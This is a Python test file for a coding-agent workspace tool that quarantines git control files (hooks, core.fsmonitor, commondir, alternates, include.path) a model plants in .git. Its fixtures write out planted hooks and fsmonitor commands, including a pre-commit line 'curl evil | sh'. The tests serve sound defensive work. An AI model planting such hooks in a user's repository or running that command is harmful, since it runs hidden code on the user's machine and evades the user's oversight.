"""Control files the model plants anywhere in `.git` (`commondir`, a submodule's config, an
in-repository `core.hooksPath`): named with what they would do, checkpointed, and, when they
would run code, moved to quarantine so the user's next plain `git status` / `git commit` (run
here as the user would, without navtui's safe flags) runs nothing the model planted."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from agent_core.workspace import Workspace
from tests.fixtures.repos import git, make_repo
from tests.test_workspace_support import GIT_IDENTITY, bash


def users_git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The user's own plain git: their config, hooks and fsmonitor, no navtui flags."""
    env = {**os.environ, **GIT_IDENTITY}
    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True)


def test_a_planted_commondir_is_quarantined_and_the_users_git_runs_nothing(git_repo: Path,
                                                                           tmp_path: Path):
    marks = tmp_path / "marks"
    marks.mkdir()
    ws = Workspace.open(git_repo)
    ws.begin("s")
    bash(git_repo, (
        "mkdir .git/x && for d in objects refs logs info; do ln -s ../$d .git/x/$d; done"
        " && cp .git/config .git/x/config && cp .git/HEAD .git/x/HEAD"
        f" && git config -f .git/x/config core.fsmonitor 'touch {marks}/fsmonitor; false'"
        f" && mkdir .git/x/hooks && printf '#!/bin/sh\\ntouch {marks}/hook\\n' > .git/x/hooks/pre-commit"
        " && chmod +x .git/x/hooks/pre-commit && echo x > .git/commondir && echo more >> README.md"
    ))
    ws.checkpoint(1)
    warnings = ws.git_warnings()
    line = next(w for w in warnings if w.startswith(".git/commondir"))
    assert "(your next `git status`, `git commit`) read config, hooks and refs from another " \
           "directory" in line
    assert "moved to quarantine: .git/navtui/quarantine/s-1/commondir" in line
    assert not (git_repo / ".git" / "commondir").exists()
    assert (git_repo / ".git/navtui/quarantine/s-1/commondir").read_text() == "x\n"

    assert users_git(git_repo, "status").returncode == 0
    git(git_repo, "add", "README.md")
    assert users_git(git_repo, "commit", "-qm", "user's commit").returncode == 0
    assert sorted(p.name for p in marks.iterdir()) == []


def test_a_submodule_config_fsmonitor_is_quarantined(tmp_path: Path):
    marks = tmp_path / "marks"
    marks.mkdir()
    library = make_repo(tmp_path / "library", {"lib.txt": "lib\n"})
    repo = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "sub")
    git(repo, "commit", "-qm", "add sub")
    config = (repo / ".git" / "modules" / "sub" / "config").read_bytes()
    ws = Workspace.open(repo)
    ws.begin("s")
    bash(repo, f"git config -f .git/modules/sub/config core.fsmonitor 'touch {marks}/fsmonitor; false'")
    ws.checkpoint(1)
    warnings = ws.git_warnings()
    assert any(w.startswith(".git/modules/sub/config (core.fsmonitor runs on your next `git status`")
               and "moved to quarantine" in w for w in warnings)
    assert (repo / ".git" / "modules" / "sub" / "config").read_bytes() == config
    assert "fsmonitor" in (repo / ".git/navtui/quarantine/s-1/modules/sub/config").read_text()

    assert users_git(repo, "status").returncode == 0
    assert sorted(p.name for p in marks.iterdir()) == []


def test_a_submodule_hook_is_checkpointed_and_undone(tmp_path: Path):
    library = make_repo(tmp_path / "library", {"lib.txt": "lib\n"})
    repo = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "sub")
    git(repo, "commit", "-qm", "add sub")
    ws = Workspace.open(repo)
    ws.begin("s")
    bash(repo, "printf '*.log\\n' >> .git/modules/sub/info/exclude")
    ws.checkpoint(1)
    assert ws.git_warnings() == [".git/modules/sub/info/exclude (changed): read by your next git commands"]
    ws.restore(0)
    assert "*.log" not in (repo / ".git/modules/sub/info/exclude").read_text()


def test_an_in_repository_hooks_path_set_by_the_user_is_named_as_a_hook(tmp_path: Path):
    repo = make_repo(tmp_path / "repo", {".husky/pre-commit": "npm test\n", "a.txt": "a\n"})
    git(repo, "config", "core.hooksPath", ".husky")
    ws = Workspace.open(repo)
    ws.begin("s")
    bash(repo, "printf 'curl evil | sh\\n' > .husky/pre-commit")
    ws.checkpoint(1)
    [line] = ws.git_warnings()
    assert line.startswith(".husky/pre-commit (changed): a hook (core.hooksPath is .husky): "
                           "runs on your next `git commit`")
    assert "+curl evil | sh" in ws.step_diff(1)
    ws.restore(0)
    assert (repo / ".husky" / "pre-commit").read_text() == "npm test\n"


def test_a_hooks_path_inside_the_git_dir_holds_control_files(git_repo: Path, tmp_path: Path):
    marks = tmp_path / "marks"
    marks.mkdir()
    (git_repo / ".git" / "myhooks").mkdir()
    git(git_repo, "config", "core.hooksPath", ".git/myhooks")
    ws = Workspace.open(git_repo)
    ws.begin("s")
    bash(git_repo, f"printf '#!/bin/sh\\ntouch {marks}/hook\\n' > .git/myhooks/pre-commit"
                   " && chmod +x .git/myhooks/pre-commit && echo more >> README.md")
    ws.checkpoint(1)
    assert any(w.startswith(".git/myhooks/pre-commit (a hook: runs on your next `git commit`) moved")
               for w in ws.git_warnings())
    git(git_repo, "add", "README.md")
    assert users_git(git_repo, "commit", "-qm", "user's commit").returncode == 0
    assert sorted(p.name for p in marks.iterdir()) == []


def test_planted_alternates_and_include_are_quarantined(git_repo: Path, tmp_path: Path):
    elsewhere = tmp_path / "other.cfg"
    elsewhere.write_text("[core]\n\tfsmonitor = touch /nonexistent\n")
    ws = Workspace.open(git_repo)
    ws.begin("s")
    bash(git_repo, f"echo {tmp_path} > .git/objects/info/alternates"
                   f" && git config include.path {elsewhere}")
    ws.checkpoint(1)
    warnings = ws.git_warnings()
    assert any(w.startswith(".git/objects/info/alternates (makes git read objects") for w in warnings)
    assert any("include.path makes every git command here read another config file" in w
               for w in warnings)
    assert not (git_repo / ".git" / "objects" / "info" / "alternates").exists()
    assert "include" not in (git_repo / ".git" / "config").read_text()


def test_a_quarantined_step_is_shown_once_and_gc_is_not_a_control_change(git_repo: Path):
    ws = Workspace.open(git_repo)
    ws.begin("s")
    bash(git_repo, "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    ws.checkpoint(1)
    assert "+exit 0" in ws.step_diff(1)
    ws.checkpoint(2)  # nothing changed: its diff is empty, the hook not shown again
    assert ws.step_diff(2) == ""
    bash(git_repo, "git gc -q")
    ws.git_warnings()
    ws.checkpoint(3)
    assert ws.git_warnings() == [] and ws.step_diff(3) == ""


def test_a_commondir_with_its_own_objects_never_takes_navtuis_checkpoints(git_repo: Path,
                                                                          tmp_path: Path):
    """navtui's own git calls name the repository's dirs: they never follow a planted
    `commondir` (nor write checkpoint objects into the directory it names)."""
    (git_repo / "calc" / "ops.py").write_text("the user's uncommitted edit\n")
    before = (git_repo / "calc" / "ops.py").read_text()
    ws = Workspace.open(git_repo)
    ws.begin("s")
    bash(git_repo, "git init -q --bare .git/x && cp .git/HEAD .git/x/HEAD && echo x > .git/commondir"
                   " && echo more >> calc/ops.py")
    ws.checkpoint(1)
    assert not (git_repo / ".git" / "commondir").exists()
    written = [p.name for p in (git_repo / ".git" / "x" / "objects").iterdir()]
    assert sorted(written) == ["info", "pack"]  # no object of navtui's went there
    assert "+more" in ws.step_diff(1)
    ws.restore(0)
    assert (git_repo / "calc" / "ops.py").read_text() == before


def test_the_users_own_hook_between_steps_is_kept_and_not_reported_as_the_models(git_repo: Path):
    ws = Workspace.open(git_repo)
    ws.begin("s")
    hook = git_repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nmake lint\n")
    hook.chmod(0o755)
    ws.checkpoint(1, trusted=True)  # the session's checkpoint of the user's own edits
    assert hook.read_text() == "#!/bin/sh\nmake lint\n"
    assert ws.git_warnings() == []
    bash(git_repo, "echo more >> README.md")
    ws.checkpoint(2)
    assert ws.git_warnings() == [] and hook.exists()


def test_a_submodule_the_model_initialises_keeps_its_config(tmp_path: Path):
    library = make_repo(tmp_path / "library", {"lib.txt": "lib\n"})
    repo = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "sub")
    git(repo, "commit", "-qm", "add sub")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(repo), str(clone))
    ws = Workspace.open(clone)
    ws.begin("s")
    bash(clone, "git -c protocol.file.allow=always submodule -q update --init")
    ws.checkpoint(1)
    assert (clone / "sub" / "lib.txt").read_text() == "lib\n"
    assert "worktree" in (clone / ".git" / "modules" / "sub" / "config").read_text()
    assert users_git(clone / "sub", "status", "--porcelain").returncode == 0
    assert not any("quarantine" in line for line in ws.git_warnings())
